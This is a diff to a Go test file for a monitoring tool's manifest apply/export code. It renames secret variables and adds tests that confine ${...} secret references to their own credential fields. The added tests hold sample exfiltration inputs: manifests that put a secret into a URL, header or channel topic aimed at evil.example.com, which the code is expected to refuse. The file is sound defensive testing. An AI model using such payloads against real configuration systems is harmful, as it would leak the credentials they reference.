@@ -5,7 +5,9 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"maps"
 	"os"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -62,19 +64,19 @@ channels:
     is_default: true
     config:
       url: https://hooks.example.com/watchdog
-      secret: ${OPS_SECRET}
+      secret: ${WATCHDOG_CHANNEL_OPS_SECRET}
       headers:
-        X-Api-Key: ${OPS_KEY}
+        X-Api-Key: ${WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY}
   - name: pager
     type: pagerduty
     config:
-      routing_key: ${PD_KEY}
+      routing_key: ${WATCHDOG_CHANNEL_PAGER_ROUTING_KEY}
 targets:
   - name: shop-api
     url: https://shop.example.com/health
     method: POST
     headers:
-      Authorization: Bearer ${SHOP_TOKEN}
+      Authorization: ${WATCHDOG_TARGET_SHOP_API_AUTHORIZATION}
       Accept: application/json
     interval_seconds: 60
     timeout_seconds: 5
@@ -102,7 +104,12 @@ status_pages:
     targets: [shop-api, docs]
 `
 
-var secrets = map[string]string{"OPS_SECRET": "s3cr3t-webhook", "OPS_KEY": "key-123", "PD_KEY": "R0UT1NGKEY0123456789012345678901", "SHOP_TOKEN": "tok-xyz"}
+var secrets = map[string]string{
+	"WATCHDOG_CHANNEL_OPS_SECRET":            "s3cr3t-webhook",
+	"WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY": "key-123",
+	"WATCHDOG_CHANNEL_PAGER_ROUTING_KEY":     "R0UT1NGKEY0123456789012345678901",
+	"WATCHDOG_TARGET_SHOP_API_AUTHORIZATION": "Bearer tok-xyz",
+}
 
 func TestRoundTrip(t *testing.T) {
 	storetest.Each(t, func(t *testing.T, s *store.Store) {
@@ -128,12 +135,7 @@ func TestRoundTrip(t *testing.T) {
 		assert.Contains(t, string(out), "Accept: application/json", "harmless headers stay readable")
 
 		// Applying the export, with its variables set, is a no-op.
-		env := map[string]string{
-			"WATCHDOG_CHANNEL_OPS_SECRET":            secrets["OPS_SECRET"],
-			"WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY": secrets["OPS_KEY"],
-			"WATCHDOG_CHANNEL_PAGER_ROUTING_KEY":     secrets["PD_KEY"],
-			"WATCHDOG_TARGET_SHOP_API_AUTHORIZATION": "Bearer " + secrets["SHOP_TOKEN"],
-		}
+		env := maps.Clone(secrets)
 		for _, n := range names {
 			assert.Contains(t, env, n, "export names %s", n)
 		}
@@ -167,7 +169,7 @@ func TestDryRunAndPrune(t *testing.T) {
 		// Without prune, objects missing from the file stay; with it, only they go.
 		smaller := strings.Replace(full, "  - name: docs\n    url: https://docs.example.com/\n    paused: true\n", "", 1)
 		smaller = strings.Replace(smaller, "targets: [shop-api, docs]", "targets: [shop-api]", 1)
-		smaller = strings.Replace(smaller, "  - name: pager\n    type: pagerduty\n    config:\n      routing_key: ${PD_KEY}\n", "", 1)
+		smaller = strings.Replace(smaller, "  - name: pager\n    type: pagerduty\n    config:\n      routing_key: ${WATCHDOG_CHANNEL_PAGER_ROUTING_KEY}\n", "", 1)
 		smaller = strings.Replace(smaller, "channels: [ops, pager]", "channels: [ops]", 1)
 		r = apply(t, s, smaller, opts(secrets))
 		assert.NotContains(t, actions(r), "target docs")
@@ -222,7 +224,7 @@ func TestErrorsChangeNothing(t *testing.T) {
 
 		for _, tc := range []struct{ name, doc, path, line string }{
 			{"unknown field", strings.Replace(full, "    paused: true", "    paused: true\n    colour: red", 1), "", "colour: red"},
-			{"unset secret", full, "channels[0].config.headers.X-Api-Key", "X-Api-Key: ${OPS_KEY}"},
+			{"unset secret", full, "channels[0].config.headers.X-Api-Key", "X-Api-Key: ${WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY}"},
 			{"unknown channel", strings.Replace(full, "channels: [ops, pager]", "channels: [ops, nope]", 1), "targets[0].channels[1]", "channels: [ops, nope]"},
 			{"unknown target on a page", strings.Replace(full, "targets: [shop-api, docs]", "targets: [shop-api, gone]", 1), "status_pages[0].targets[1]", "targets: [shop-api, gone]"},
 			{"a name twice", strings.Replace(full, "name: docs", "name: shop-api", 1), "targets[1].name", "name: shop-api\n    url: https://docs"},
@@ -316,12 +318,15 @@ func TestReviewFixes(t *testing.T) {
 		require.True(t, errors.As(err, &le), "%v", err)
 		assert.Equal(t, "targets[0].url", le.Path)
 
-		// A prefix limits what may be read (the HTTP apply reads WATCHDOG_* only).
-		limited := opts(map[string]string{"JWT_SECRET": "leak", "WATCHDOG_OK": "fine"})
+		// A prefix limits what may be read (the HTTP apply reads WATCHDOG_* only). A
+		// reference in a URL is refused whatever its name (it would be readable by
+		// every viewer); in its own credential header it is read.
+		limited := opts(map[string]string{"JWT_SECRET": "leak", "WATCHDOG_TARGET_OK_AUTHORIZATION": "fine"})
 		limited.EnvPrefix = "WATCHDOG_"
 		_, err = parse(t, "version: 1\ntargets:\n  - name: leak\n    url: https://example.com/?k=${JWT_SECRET}\n").Apply(ctx, s, limited)
-		assert.ErrorContains(t, err, "${JWT_SECRET} is not set")
-		r = apply(t, s, "version: 1\ntargets:\n  - name: ok\n    url: https://example.com/?k=${WATCHDOG_OK}\n", limited)
+		assert.ErrorContains(t, err, "${JWT_SECRET} cannot be read here")
+		assert.NotContains(t, err.Error(), "leak\"")
+		r = apply(t, s, "version: 1\ntargets:\n  - name: ok\n    url: https://example.com/\n    headers: {Authorization: '${WATCHDOG_TARGET_OK_AUTHORIZATION}'}\n", limited)
 		assert.Equal(t, "created", actions(r)["target ok"])
 
 		// With prune, a reference to an object the document leaves out is an error,
@@ -353,9 +358,9 @@ func TestReviewFixes(t *testing.T) {
 func TestExportNamesEachSecretOnce(t *testing.T) {
 	s := storetest.SQLite(t)
 	doc := "version: 1\nchannels:\n" +
-		"  - {name: Ops, type: webhook, config: {url: 'https://a.example.com/', secret: '${A}'}}\n" +
-		"  - {name: ops, type: webhook, config: {url: 'https://b.example.com/', secret: '${B}'}}\n"
-	apply(t, s, doc, opts(map[string]string{"A": "first", "B": "second"}))
+		"  - {name: Ops, type: webhook, config: {url: 'https://a.example.com/', secret: '${WATCHDOG_CHANNEL_OPS_SECRET}'}}\n" +
+		"  - {name: ops, type: webhook, config: {url: 'https://b.example.com/', secret: '${WATCHDOG_CHANNEL_OPS_SECRET_2}'}}\n"
+	apply(t, s, doc, opts(map[string]string{"WATCHDOG_CHANNEL_OPS_SECRET": "first", "WATCHDOG_CHANNEL_OPS_SECRET_2": "second"}))
 	_, names, err := manifest.Export(context.Background(), s)
 	require.NoError(t, err)
 	assert.ElementsMatch(t, []string{"WATCHDOG_CHANNEL_OPS_SECRET", "WATCHDOG_CHANNEL_OPS_SECRET_2"}, names)
@@ -420,4 +425,90 @@ func TestExplicitZeroAndNamesInAnyCase(t *testing.T) {
 		require.Len(t, all, 1)
 		assert.Equal(t, "SHOP", all[0].Name)
 	})
+}
+
+// TestReferencesFillOnlyTheirSecretField: a ${…} reference reads a secret only into
+// the field export wrote it for. Anywhere else (a URL, a name, a plain header, a
+// condition, another object's secret) it would let whoever writes the document read
+// the variable back or send it to a server of their choosing.
+func TestReferencesFillOnlyTheirSecretField(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, s *store.Store) {
+		ctx := context.Background()
+		env := map[string]string{
+			"WATCHDOG_CHANNEL_OPS_SECRET":            "ops-secret",
+			"WATCHDOG_CHANNEL_OPS_SECRET_2":          "ops-secret-2",
+			"WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY": "ops-key",
+			"WATCHDOG_TARGET_SHOP_AUTHORIZATION":     "Bearer shop",
+		}
+		ops := "version: 1\nchannels:\n  - name: ops\n    type: webhook\n    config:\n" +
+			"      url: https://hooks.example.com/\n"
+		for _, tc := range []struct{ name, doc, path, line string }{
+			{"in a target's url", "version: 1\ntargets:\n  - name: shop\n    url: https://evil.example.com/?k=${WATCHDOG_CHANNEL_OPS_SECRET}\n",
+				"targets[0].url", "url: https://evil"},
+			{"in a plain header", "version: 1\ntargets:\n  - name: shop\n    url: https://shop.example.com/\n    headers:\n      Accept: ${WATCHDOG_CHANNEL_OPS_SECRET}\n",
+				"targets[0].headers.Accept", "Accept:"},
+			{"another object's variable in a credential header", "version: 1\ntargets:\n  - name: shop\n    url: https://evil.example.com/\n    headers:\n      Authorization: ${WATCHDOG_CHANNEL_OPS_SECRET}\n",
+				"targets[0].headers.Authorization", "Authorization:"},
+			{"part of a credential header", "version: 1\ntargets:\n  - name: shop\n    url: https://shop.example.com/\n    headers:\n      Authorization: Bearer ${WATCHDOG_TARGET_SHOP_AUTHORIZATION}\n",
+				"targets[0].headers.Authorization", "Authorization:"},
+			{"in a channel's plain setting", ops + "      secret: ${WATCHDOG_CHANNEL_OPS_SECRET}\n  - name: evil\n    type: ntfy\n    config:\n      topic: ${WATCHDOG_CHANNEL_OPS_SECRET}\n",
+				"channels[1].config.topic", "topic:"},
+			{"another channel's secret", "version: 1\nchannels:\n  - name: evil\n    type: webhook\n    config:\n      url: https://evil.example.com/\n      headers:\n        X-Leak: ${WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY}\n",
+				"channels[0].config.headers.X-Leak", "X-Leak:"},
+			{"a secret key of another name", ops + "      headers:\n        X-Api-Key: ${WATCHDOG_CHANNEL_OPS_SECRET}\n",
+				"channels[0].config.headers.X-Api-Key", "X-Api-Key:"},
+		} {
+			t.Run(tc.name, func(t *testing.T) {
+				_, err := parse(t, tc.doc).Apply(ctx, s, opts(env))
+				var le *manifest.LineError
+				require.True(t, errors.As(err, &le), "%v", err)
+				assert.Equal(t, tc.path, le.Path, "%v", err)
+				assert.Equal(t, lineOf(tc.doc, tc.line), le.Line, "%v", err)
+				assert.NotContains(t, err.Error(), "ops-", "the error does not carry a value")
+				all, err := s.AllTargets(ctx)
+				require.NoError(t, err)
+				assert.Empty(t, all, "nothing applied")
+			})
+		}
+
+		// In its own field a reference works; so does the _2 export adds when two
+		// objects' names make one variable, and a $${ literal anywhere.
+		doc := ops + "      secret: ${WATCHDOG_CHANNEL_OPS_SECRET_2}\n      headers:\n        X-Api-Key: ${WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY}\n" +
+			"targets:\n  - name: shop\n    url: https://shop.example.com/?q=$${HOME}\n    headers:\n" +
+			"      Authorization: ${WATCHDOG_TARGET_SHOP_AUTHORIZATION}\n      Accept: $${x}\n"
+		r := apply(t, s, doc, opts(env))
+		assert.Equal(t, "created", actions(r)["target shop"])
+		all, err := s.AllTargets(ctx)
+		require.NoError(t, err)
+		require.Len(t, all, 1)
+		assert.Equal(t, "Bearer shop", all[0].Headers["Authorization"])
+		assert.Equal(t, "${x}", all[0].Headers["Accept"])
+		assert.Equal(t, "https://shop.example.com/?q=${HOME}", all[0].URL)
+	})
+}
+
+// TestChannelRulesAreTheAPIs: apply checks a channel with the same rules as the API
+// (notify.Channel.Validate): a long name with a BEL in it is refused, naming its line.
+func TestChannelRulesAreTheAPIs(t *testing.T) {
+	s := storetest.SQLite(t)
+	long := strings.Repeat("n", 300) + "\a" + "oops"
+	for _, tc := range []struct{ name, value, msg string }{
+		{"305 characters with a BEL", long, "at most 100 characters"},
+		{"a BEL", "ops\a", "control characters"},
+		{"a bidi override", "\u202eops", "U+202E"},
+		{"zero-width spaces only", "\u200b\u200b", "U+200B"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			doc := "version: 1\nchannels:\n  - type: ntfy\n    name: " + strconv.Quote(tc.value) + "\n    config: {topic: t}\n"
+			_, err := parse(t, doc).Apply(context.Background(), s, opts(nil))
+			var le *manifest.LineError
+			require.True(t, errors.As(err, &le), "%v", err)
+			assert.Equal(t, "channels[0].name", le.Path)
+			assert.Equal(t, 4, le.Line)
+			assert.Contains(t, le.Msg, tc.msg)
+			channels, err := s.ListChannels(context.Background())
+			require.NoError(t, err)
+			assert.Empty(t, channels)
+		})
+	}
 }
